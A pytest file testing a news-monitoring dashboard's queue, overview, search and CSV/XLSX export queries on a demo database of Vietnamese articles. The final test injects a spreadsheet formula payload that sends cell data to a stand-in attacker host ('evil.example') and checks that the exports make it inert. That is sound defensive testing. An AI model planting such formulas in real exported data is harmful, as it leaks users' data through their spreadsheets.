"""The dashboard's query functions on the demo database built by the real CLI (no Streamlit)."""

from __future__ import annotations

import io
import unicodedata
from datetime import UTC, datetime
from typing import Any

import openpyxl
import pandas as pd
import pytest
from sqlalchemy import event, text

from dashboard.queries.accounts import audit_table, users_table
from dashboard.queries.item import item_detail, raw_page_text
from dashboard.queries.models import model_versions
from dashboard.queries.overview import OverviewFilter, arrived_since, by, overview
from dashboard.queries.queue import QueueFilter, queue
from dashboard.queries.search import SearchFilter, search, to_csv_bytes, to_xlsx_bytes
from dashboard.queries.sources import sources_table
from pipeline.records import ArticleRecord
from pipeline.review.auth import Identity
from pipeline.review.reviews import update_review
from pipeline.storage.articles import upsert_article
from pipeline.storage.engine import make_engine, transaction
from pipeline.text.normalise import fold
from tests.support.dashboard import flagged_facts

pytestmark = pytest.mark.slow
ANA = Identity("ana", "analyst", datetime(2026, 10, 1, tzinfo=UTC))

# The shared fixtures, registered in this module.


def test_queue_shows_each_story_once_with_its_outlets_by_score(demo_db: str) -> None:
    facts = flagged_facts(demo_db)
    frame, total = queue(make_engine(demo_db), QueueFilter())
    assert total == len(frame) == len(facts.stories)  # one row per story
    assert list(frame["flag_score"]) == sorted(frame["flag_score"], reverse=True)
    for story, ids in facts.stories.items():
        best = max(ids, key=lambda i: facts.scores[i])
        row = frame[frame["id"] == best]
        assert len(row) == 1, f"story {story} should be shown by its highest-scored item"
        assert row.iloc[0]["items"] == len(ids)
        assert row.iloc[0]["outlets"] == "; ".join(sorted({facts.sources[i] for i in ids}))
    assert set(frame["status"]) == {"new"}


def test_queue_filters_by_status_source_topic_and_assignee(demo_db: str) -> None:
    eng = make_engine(demo_db)
    frame, total = queue(eng, QueueFilter())
    first = frame.iloc[0]
    with transaction(eng) as session:
        update_review(session, first["id"], int(first["version"]), ANA, status="dismissed", assignee="ana")
    after, after_total = queue(eng, QueueFilter())
    assert first["id"] not in set(after["id"]) and after_total == total - (first["items"] == 1)
    dismissed, _ = queue(eng, QueueFilter(statuses=("dismissed",)))
    assert list(dismissed["id"]) == [first["id"]] and dismissed.iloc[0]["assignee"] == "ana"
    assert list(queue(eng, QueueFilter(statuses=(), assignee="ana"))[0]["id"]) == [first["id"]]
    source = frame.iloc[-1]["source"]
    by_source, _ = queue(eng, QueueFilter(source=source))
    assert len(by_source) >= 1 and set(by_source["source"]) == {source}
    topic = next(t[0] for t in frame["topics"][1:] if t)  # not the dismissed first row
    by_topic, _ = queue(eng, QueueFilter(topic=topic))
    assert len(by_topic) >= 1 and all(topic in t for t in by_topic["topics"])
    future = datetime(2030, 1, 1, tzinfo=UTC)
    assert queue(eng, QueueFilter(since=future))[1] == 0


def test_my_queue_lists_my_items_by_deadline_undated_last(demo_db: str) -> None:
    eng = make_engine(demo_db)
    frame, _ = queue(eng, QueueFilter())
    deadlines = {frame.iloc[1]["id"]: datetime(2030, 1, 20, tzinfo=UTC), frame.iloc[4]["id"]: None}
    deadlines[frame.iloc[3]["id"]] = datetime(2030, 1, 10, tzinfo=UTC)
    with transaction(eng) as session:
        for article_id, deadline in deadlines.items():
            update_review(session, article_id, 1, ANA, assignee="ana", deadline=deadline)
    mine, total = queue(eng, QueueFilter(assignee="ana", by_deadline=True))
    assert total == 3
    assert list(mine["id"]) == [frame.iloc[3]["id"], frame.iloc[1]["id"], frame.iloc[4]["id"]]
    # Without the switch, the same items by score (the queue's own order).
    assert list(queue(eng, QueueFilter(assignee="ana"))[0]["id"]) == [frame.iloc[i]["id"] for i in (1, 3, 4)]


def test_item_detail_has_reasons_story_siblings_and_the_evidence_page(demo_db: str) -> None:
    eng = make_engine(demo_db)
    frame, _ = queue(eng, QueueFilter())
    multi = frame[frame["items"] > 1]
    row = multi.iloc[0] if not multi.empty else frame.iloc[0]
    detail = item_detail(eng, row["id"])
    assert detail is not None and detail.review is not None
    assert detail.reasons and detail.flag_score == pytest.approx(row["flag_score"])
    assert detail.model_version == model_versions(eng).iloc[0]["model_version"]
    assert len(detail.siblings) == row["items"] - 1
    assert len(detail.raw_sha256) == 64
    # The demo pages give their time with +07:00: the page's own clock is the office's here.
    assert detail.published_page.endswith("+07:00")
    assert datetime.fromisoformat(detail.published_page) == datetime.fromisoformat(detail.published)
    page = raw_page_text(eng, detail.raw_sha256)
    assert page is not None and "<html" in page.lower() and detail.title[:20] in page
    assert item_detail(eng, "no-such-id") is None


def test_overview_counts_add_up_and_filter(demo_db: str) -> None:
    eng = make_engine(demo_db)
    data = overview(eng, OverviewFilter())
    assert data.states["n"].sum() == data.weekly["n"].sum() == 36
    flagged = flagged_facts(demo_db).count
    assert data.states[data.states["flagged"]]["n"].sum() == flagged
    assert data.statuses.set_index("status")["n"].to_dict() == {"new": flagged}
    per_source = by(data.weekly, "source").set_index("source")["n"]
    assert per_source.sum() == 36 and set(per_source.index) == {"anlao-portal", "cangxanh", "tinnhanh"}
    assert all(pd.Timestamp(w).day_of_week == 0 for w in data.weekly["week"] if w)  # weeks start on Monday
    assert data.topics["n"].sum() >= 1
    only_portal = overview(eng, OverviewFilter(source="anlao-portal"))
    assert only_portal.states["n"].sum() == per_source["anlao-portal"]
    an_lao = overview(eng, OverviewFilter(scope="an-lao"))
    assert set(an_lao.states["scope"]) == {"an-lao"} and an_lao.weekly["n"].sum() == an_lao.states["n"].sum()
    topic, count = data.topics.iloc[0]["topic"], data.topics.iloc[0]["n"]
    one_topic = overview(eng, OverviewFilter(topic=topic))
    assert one_topic.states["n"].sum() == count
    assert one_topic.topics.set_index("topic")["n"][topic] == count
    assert overview(eng, OverviewFilter(since=datetime(2030, 1, 1, tzinfo=UTC))).empty


def test_search_ignores_diacritics_and_tone_mark_placement(demo_db: str) -> None:
    eng = make_engine(demo_db)
    plain, total = search(eng, SearchFilter(text="dinh vu"))
    marked, _ = search(eng, SearchFilter(text="Đình Vũ"))
    assert total >= 2 and set(plain["id"]) == set(marked["id"])
    titles = list(plain["title"])
    assert any(t.startswith("Bác bỏ tin đồn") for t in titles)
    assert any(t.startswith("Hải Phòng: Thông tin rò rỉ") for t in titles)
    # The demo writes both "hoà" (new-style tone placement) and "hòa": either spelling finds both.
    new_style, n_new = search(eng, SearchFilter(text="hoà"))
    old_style, n_old = search(eng, SearchFilter(text="hòa"))
    assert n_new == n_old >= 9 and set(new_style["id"]) == set(old_style["id"])
    assert len(search(eng, SearchFilter(text="thuỷ"))[0]) >= 1  # only "thủy" is written in the demo
    none, zero = search(eng, SearchFilter(text="khong-co-tu-nay-xyz"))
    assert zero == 0 and none.empty
    flagged, _ = search(eng, SearchFilter(text="hai phong", flagged_only=True))
    assert 0 < len(flagged) <= flagged_facts(demo_db).count and all(flagged["needs_response"])
    everything, n_all = search(eng, SearchFilter(text=""))  # an empty query lists the collection
    assert n_all == len(everything) == 36


def test_every_stored_article_has_its_folded_search_text(demo_db: str) -> None:
    with make_engine(demo_db).connect() as conn:
        rows = conn.execute(text("SELECT title, search_text FROM articles")).all()
    assert len(rows) == 36
    for title, folded in rows:
        assert folded.startswith(fold(title)) and folded == folded.lower()
        assert "đ" not in folded and not any(unicodedata.combining(ch) for ch in folded)


def test_search_results_export_to_csv_and_xlsx(demo_db: str) -> None:
    frame, _ = search(make_engine(demo_db), SearchFilter(text="an lão"))
    csv = pd.read_csv(io.BytesIO(to_csv_bytes(frame)), encoding="utf-8-sig")
    assert list(csv["title"]) == list(frame["title"])
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(frame))).active
    assert sheet is not None
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][: len(frame.columns)] == tuple(frame.columns)
    assert [r[2] for r in rows[1:]] == list(frame["title"])


def test_sources_models_users_and_audit_tables(demo_db: str) -> None:
    eng = make_engine(demo_db)
    sources = sources_table(eng).set_index("id")
    assert sources.loc["cangxanh", "articles"] > 0 and sources.loc["cangxanh", "last_crawl"]
    assert sources["articles"].sum() == 36
    versions = model_versions(eng)
    assert versions.iloc[0]["articles"] == "36"  # shown as the page shows it ("1.120")
    assert set(users_table(eng)["name"]) == {"ana", "binh", "boss", "xem"}
    audit = audit_table(eng, "user")
    assert set(audit["object_id"]) == {"ana", "binh", "boss", "xem"} and set(audit["action"]) == {"created"}
    since = datetime(2000, 1, 1, tzinfo=UTC)
    assert arrived_since(eng, since) == {"articles": 36, "flagged": flagged_facts(demo_db).count}


def test_overview_counts_articles_not_yet_processed(demo_db: str) -> None:
    eng = make_engine(demo_db)
    when = datetime(2026, 11, 20, 8, 0, tzinfo=UTC)
    record = ArticleRecord(
        id="chua-xu-ly", url="https://cangxanh.example/moi", canonical_url="https://cangxanh.example/moi",
        source_id="cangxanh", title="Tin mới chưa xử lý", summary="", body="Nội dung.", byline="",
        published_at=when, fetched_at=when, extraction_method="test",
    )  # fmt: skip
    with transaction(eng) as session:
        upsert_article(session, record)
    for flt in (OverviewFilter(), OverviewFilter(source="cangxanh")):  # assessments alone / joined
        data = overview(eng, flt)
        assert data.states["n"].sum() == data.weekly["n"].sum()
        unassessed = data.states[data.states["scope"] == ""]
        assert list(unassessed["n"]) == [1] and not unassessed.iloc[0]["flagged"]
    assert overview(eng, OverviewFilter()).states["n"].sum() == 37
    assert "" not in set(overview(eng, OverviewFilter(scope="hai-phong")).states["scope"])


def test_no_dashboard_query_scans_the_assessments_inside_a_join(demo_db: str) -> None:
    """SQLite's plans (no statistics) of every statement the pages' queries run: assessments are reached
    by article id or a covering index, never by a bare ``is_current`` index scan per joined row."""
    eng = make_engine(demo_db)
    statements: list[tuple[str, Any]] = []

    def record(_conn: object, _cursor: object, statement: str, parameters: Any, *_: object) -> None:
        if statement.lstrip().upper().startswith("SELECT"):
            statements.append((statement, parameters))

    event.listen(eng, "before_cursor_execute", record)
    overview(eng, OverviewFilter())
    overview(eng, OverviewFilter(source="cangxanh", scope="hai-phong"))
    queue(eng, QueueFilter())
    search(eng, SearchFilter(text="hai phong", scope="hai-phong"))
    search(eng, SearchFilter(text="", flagged_only=True))
    event.remove(eng, "before_cursor_execute", record)
    assert len(statements) >= 10
    with eng.connect() as conn:
        for statement, parameters in statements:
            plan = [row[-1] for row in conn.exec_driver_sql("EXPLAIN QUERY PLAN " + statement, parameters)]
            bad = [step for step in plan if "assessments" in step and "(is_current=?)" in step]
            assert not bad, (statement, plan)


def test_search_downloads_keep_a_formula_title_inert(demo_db: str) -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
    eng = make_engine(demo_db)
    with eng.begin() as conn:
        conn.execute(
            text("UPDATE articles SET title = :t WHERE id = (SELECT min(id) FROM articles)"), {"t": hostile}
        )
    frame, _ = search(eng, SearchFilter())
    assert hostile in list(frame["title"])
    csv = pd.read_csv(io.BytesIO(to_csv_bytes(frame)), encoding="utf-8-sig")
    assert "'" + hostile in list(csv["title"]) and hostile not in list(csv["title"])
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(frame))).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(c.value == "'" + hostile and c.data_type == "s" for c in cells)
